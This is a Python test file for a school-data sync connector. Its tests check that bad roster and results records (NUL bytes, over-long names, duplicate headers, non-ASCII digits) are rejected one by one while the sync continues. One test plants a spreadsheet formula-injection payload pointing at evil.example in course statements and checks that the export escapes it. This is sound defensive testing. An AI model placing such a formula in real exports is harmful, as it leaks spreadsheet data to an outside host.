"""One poisoned record never stops a sync: it is rejected with where and why, the rest goes on.

The probe of issue 14: a NUL in one roster name failed every PostgreSQL run, and the roster
never loaded; a stored xAPI statement with a NUL kept every later statement from becoming
evidence. SQLite stored the same bytes. Now the text is checked where it enters, and a record
the store still refuses is rejected on its own while its batch and the cursor go on.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from marshmallow import Schema
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from connector.adapters.base import Envelope, SourceAdapter
from connector.config.loader import load_settings
from connector.domain import records as r
from connector.errors import Rejection
from connector.jobs import definitions
from connector.persistence import models as m
from connector.persistence.tenancy import tenant_session
from connector.sync.district import find_district
from tests.conftest import SMALL_STUDENTS, make_workspace, own_examples
from tests.fakes.one_source import NoSettings, read_once


def workspace_with_own_export(tmp_path: Path, sample: Path) -> Path:
    """The sample's configuration reading a copy of an export the test may spoil.

    One bad row or file is the point, so the export is the small sample's.
    """
    return own_examples(make_workspace(tmp_path), sample)


def rewrite(path: Path, change: Any) -> None:
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    change(rows)
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(rows)


def rejections(factory: sessionmaker[Session], run_id: int) -> list[m.SyncRejection]:
    district = find_district(factory, "cedar-ridge")
    assert district is not None
    with tenant_session(factory, district) as session:
        return list(session.scalars(select(m.SyncRejection).where(
            m.SyncRejection.run_id == run_id)))


def count(factory: sessionmaker[Session], model: Any) -> int:
    district = find_district(factory, "cedar-ridge")
    assert district is not None
    with tenant_session(factory, district) as session:
        return int(session.scalar(select(func.count()).select_from(model)) or 0)


def test_a_nul_in_a_roster_name_rejects_that_row_and_the_roster_loads(
        tmp_path: Path, factory: sessionmaker[Session], small_sample: Path) -> None:
    workspace = workspace_with_own_export(tmp_path, small_sample)
    users = workspace / "examples" / "sample-district" / "oneroster" / "users.csv"
    poisoned: list[str] = []

    def poison(rows: list[list[str]]) -> None:
        given, family = rows[0].index("givenName"), rows[0].index("familyName")
        student, other = [row for row in rows[1:] if row[0].startswith("S")][:2]
        student[given] = student[given][:2] + "\x00" + student[given][2:]
        other[family] = "X" * 300  # longer than the column: PostgreSQL refuses, SQLite keeps
        poisoned.extend((student[0], other[0]))

    rewrite(users, poison)
    report = definitions.run(factory, load_settings(workspace / "config"), "nightly-sync")
    assert report.status == "succeeded_with_rejections", report.errors
    bad, long = sorted((x for x in rejections(factory, report.run_id) if x.file == "users.csv"),
                       key=lambda x: x.record_key)
    assert bad.field == "givenName" and bad.row is not None and bad.row > 1
    assert "a control character (U+0000, a NUL byte) at position 3" in bad.reason
    assert (long.field, long.record_key) == ("family_name", poisoned[1])
    assert long.reason == "'family_name' is 300 characters long; at most 120 fit"
    total = len(users.read_text(encoding="utf-8").splitlines()) - 1
    assert count(factory, m.Student) + count(factory, m.Staff) == total - 2


def test_a_header_that_names_a_column_twice_refuses_the_file_not_the_run(
        tmp_path: Path, factory: sessionmaker[Session], small_sample: Path) -> None:
    workspace = workspace_with_own_export(tmp_path, small_sample)
    results = workspace / "examples" / "sample-district" / "oneroster" / "results.csv"
    rewrite(results, lambda rows: rows[0].__setitem__(rows[0].index("scoreDate"), "score"))
    report = definitions.run(factory, load_settings(workspace / "config"), "nightly-sync")
    assert report.status == "succeeded_with_rejections"
    refused = [x for x in rejections(factory, report.run_id) if x.file == "results.csv"]
    assert [(x.row, x.field) for x in refused] == [(1, "score")]
    assert "more than once" in refused[0].reason
    assert count(factory, m.Student) == SMALL_STUDENTS  # the roster and the rest loaded


def test_digits_other_than_0_to_9_are_not_numbers(tmp_path: Path, factory: sessionmaker[Session],
                                                   small_sample: Path) -> None:
    workspace = workspace_with_own_export(tmp_path, small_sample)
    results = workspace / "examples" / "sample-district" / "oneroster" / "results.csv"
    changed: list[str] = []

    def arabic(rows: list[list[str]]) -> None:
        score = rows[0].index("score")
        row = next(row for row in rows[1:] if row[score])
        row[score] = "١٠"
        changed.append(row[0])

    rewrite(results, arabic)
    report = definitions.run(factory, load_settings(workspace / "config"), "nightly-sync")
    (bad,) = [x for x in rejections(factory, report.run_id)
              if x.file == "results.csv" and x.field == "score"]
    assert "digits 0-9" in bad.reason and bad.record_key in ("", changed[0])


class Poisoned(SourceAdapter):
    """Yields a roster whose third person carries a NUL past every boundary check."""

    kind = "poisoned"
    options_schema = Schema
    settings_type = NoSettings

    def read(self) -> Iterator[Envelope | Rejection]:
        for n in range(5):
            given = "Ma\x00ria" if n == 2 else f"Student{n}"
            yield Envelope(r.Person(self.key, f"P{n}", "student", given, "Test"), "people", n + 2)

    def check(self) -> str:
        return "ok"


def test_a_record_the_store_refuses_is_rejected_alone_and_the_batch_goes_on(
        tmp_path: Path, factory: sessionmaker[Session], db_url: str,
        monkeypatch: pytest.MonkeyPatch) -> None:
    settings = load_settings(make_workspace(tmp_path) / "config")
    report, staged = read_once(factory, settings, monkeypatch, Poisoned, 1000)
    run_id = report.run_id
    district = find_district(factory, "cedar-ridge")
    assert district is not None
    assert report.errors == []  # never a failed source
    with tenant_session(factory, district) as session:
        names = sorted(session.scalars(select(m.Student.given_name)))
    if db_url.startswith("postgresql"):
        assert names == ["Student0", "Student1", "Student3", "Student4"]
        (refused,) = staged.rejections
        assert (refused.file, refused.row, refused.record_key) == ("people", 4, "P2")
        assert refused.reason.startswith("the database refused this record: ")
        assert "NUL" in refused.reason and "Ma" not in refused.reason
        counted = report.sources["people"]["users"]
        assert (counted["read"], counted["inserted"], counted["rejected"]) == (5, 4, 1)
        assert [x.record_key for x in rejections(factory, run_id)] == ["P2"]
    else:  # SQLite stores the bytes; the CSV and intake boundaries are what refuse them there
        assert len(names) == 5 and staged.rejections == []


def test_a_formula_in_a_case_statement_reaches_the_bundle_as_text(
        tmp_path: Path, factory: sessionmaker[Session], small_sample: Path) -> None:
    import json
    import zipfile

    workspace = workspace_with_own_export(tmp_path, small_sample)
    package_path = workspace / "examples" / "sample-district" / "case" / \
        "cedar-ridge-math-ela.json"
    package = json.loads(package_path.read_text(encoding="utf-8"))
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click for your grade")'
    for item in package["CFItems"]:
        item["fullStatement"] = attack
        item.pop("abbreviatedStatement", None)
    package_path.write_text(json.dumps(package), encoding="utf-8")
    report = definitions.run(factory, load_settings(workspace / "config"), "nightly-sync")
    assert report.status != "failed", report.errors
    (bundle,) = (workspace / "out" / "oneroster" / "sis-results").glob("*.zip")
    with zipfile.ZipFile(bundle) as archive:
        rows = list(csv.DictReader(archive.read("lineItems.csv").decode().splitlines()))
    math = [row for row in rows if "HYPERLINK" in row["description"]]
    assert math, "the statements reached the bundle"
    for row in math:
        for column in ("title", "description"):
            assert not row[column].startswith(("=", "+", "-", "@")), row[column]
        assert row["description"] == "'" + attack


def test_files_holding_student_data_are_readable_by_their_owner_only(tmp_path: Path) -> None:
    import os
    import stat
    import subprocess
    import sys

    workspace = make_workspace(tmp_path)
    env = {k: v for k, v in os.environ.items() if not k.startswith("CONNECTOR_")}
    for args in (["sync", "run", "nightly-sync"],
                 ["transcripts", "generate", "--student", "S100001", "--out", "out/transcripts"]):
        done = subprocess.run([sys.executable, "-m", "connector.cli.main", *args], cwd=workspace,
                              env=env, capture_output=True, text=True, timeout=300)
        assert done.returncode == 0, done.stderr
    made = [workspace / "var", *(workspace / "var").iterdir(), workspace / "out",
            *(workspace / "out").rglob("*")]
    assert any(p.name == "connector.sqlite3" for p in made)
    assert any(p.suffix == ".pdf" for p in made) and any(p.suffix == ".zip" for p in made)
    loose = [str(p.relative_to(workspace)) for p in made
             if stat.S_IMODE(p.stat().st_mode) & (stat.S_IRWXG | stat.S_IRWXO)]
    assert loose == []
